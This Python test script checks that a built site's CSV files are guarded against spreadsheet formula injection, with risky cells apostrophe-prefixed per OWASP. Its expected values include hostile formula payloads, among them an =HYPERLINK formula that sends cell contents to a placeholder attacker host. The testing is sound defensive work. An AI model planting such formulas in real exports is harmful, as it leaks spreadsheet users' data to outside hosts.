#!/usr/bin/env python3
"""CSV injection: every CSV of a built site (charts/*.csv, data/metrics.csv) holds no
cell a spreadsheet would run. A cell that starts with =, +, -, @, TAB or CR must be a
number (csv_num writes numbers, "-0.3" stays as it is); any other such text is written
"'..." inside double quotes (OWASP's advice), and a text that starts with an apostrophe
gets one more. With --inject, also the exact cells tests/inject's hostile labels must
give, and the chart's data table in money.html showing them without the guard.

usage: check-csv.py [--inject] SITE"""
import csv
import glob
import io
import os
import sys

STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def rows_of(raw):
    """The rows of raw, CR and LF inside quoted cells kept."""
    return list(csv.reader(io.StringIO(raw, newline="")))


# The cells tests/inject/content's hostile labels must give: file -> [(row, col, cell)].
WANT = {
    "charts/csv-bars.csv": [
        (0, 1, "'@SUM(A1) series"),
        (1, 0, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        (2, 0, "'+1"), (3, 0, "'-2+3"), (4, 0, "'@SUM(A1)"),
        (5, 0, "'\tTAB start"), (6, 0, "'\r\nCR start"), (7, 0, "''quoted"),
        (1, 1, "3"),
    ],
    "charts/csv-lines.csv": [
        (0, 2, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        (1, 0, "2019"), (1, 1, "-0.55"), (1, 2, "-0.55"),
    ],
    "charts/csv-matrix.csv": [
        (1, 0, "'-4"), (1, 1, "'=1+2"), (1, 3, "'@note"), (2, 1, "'+3"),
        (2, 3, "'=note"), (3, 0, "'\tTAB row"), (3, 3, "'\r\nCR note"), (4, 3, "plain"),
    ],
    "charts/csv-events.csv": [
        (1, 2, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"), (2, 2, "'@SUM(A1)"),
    ],
    "charts/csv-waterfall.csv": [
        (1, 0, "'-step"), (2, 0, "'+step"), (2, 1, "-0.3949999999999996"),
        (3, 0, "'=SUM(A1:A9)"),
    ],
}

# Raw lines that must appear as they are: negative numbers unquoted, guarded cells
# quoted, the scenario named "-evil" guarded in metrics.csv.
WANT_RAW = {
    "charts/csv-lines.csv": ["\n2019,-0.55,-0.55\n"],
    "charts/csv-bars.csv": ["\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",3\n"],
    "data/metrics.csv": ["\nfinance.discount_rate,\"'-evil\",,0.2,fraction\n"],
}

# Text the data tables must show (the guard taken off).
WANT_HTML = [
    "<th scope=\"row\">=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"click\")</th>",
    "<th scope=\"row\">-2+3</th>",
    "<th scope=\"row\">'quoted</th>",
]


def main():
    args = sys.argv[1:]
    inject = bool(args) and args[0] == "--inject"
    site = args[-1]
    files = sorted(glob.glob(os.path.join(site, "charts", "*.csv")))
    files.append(os.path.join(site, "data", "metrics.csv"))
    problems = []
    cells = 0
    for path in files:
        with open(path, encoding="utf-8", newline="") as fh:
            raw = fh.read()
        rows = rows_of(raw)
        rel = os.path.relpath(path, site)
        for r, row in enumerate(rows):
            for c, cell in enumerate(row):
                cells += 1
                if cell.startswith(STARTS) and not is_number(cell):
                    problems.append(f"{rel}:{r + 1}:{c + 1}: cell {cell!r} would run")
        if inject:
            for r, c, want in WANT.get(rel, []):
                got = rows[r][c] if r < len(rows) and c < len(rows[r]) else None
                if got != want:
                    problems.append(f"{rel}: row {r + 1} col {c + 1}: {got!r}, want {want!r}")
            for frag in WANT_RAW.get(rel, []):
                if frag not in raw:
                    problems.append(f"{rel}: missing {frag!r}")
    if inject:
        for rel in WANT:
            if not os.path.exists(os.path.join(site, rel)):
                problems.append(f"{rel}: missing")
        with open(os.path.join(site, "money.html"), encoding="utf-8") as fh:
            html = fh.read()
        for frag in WANT_HTML:
            if frag not in html:
                problems.append(f"money.html: missing {frag!r}")
    for p in problems:
        print(f"csv: FAILED: {p}")
    print(f"csv: {len(files)} files, {cells} cells, {len(problems)} problems")
    return 1 if problems or len(files) < 2 else 0


if __name__ == "__main__":
    sys.exit(main())
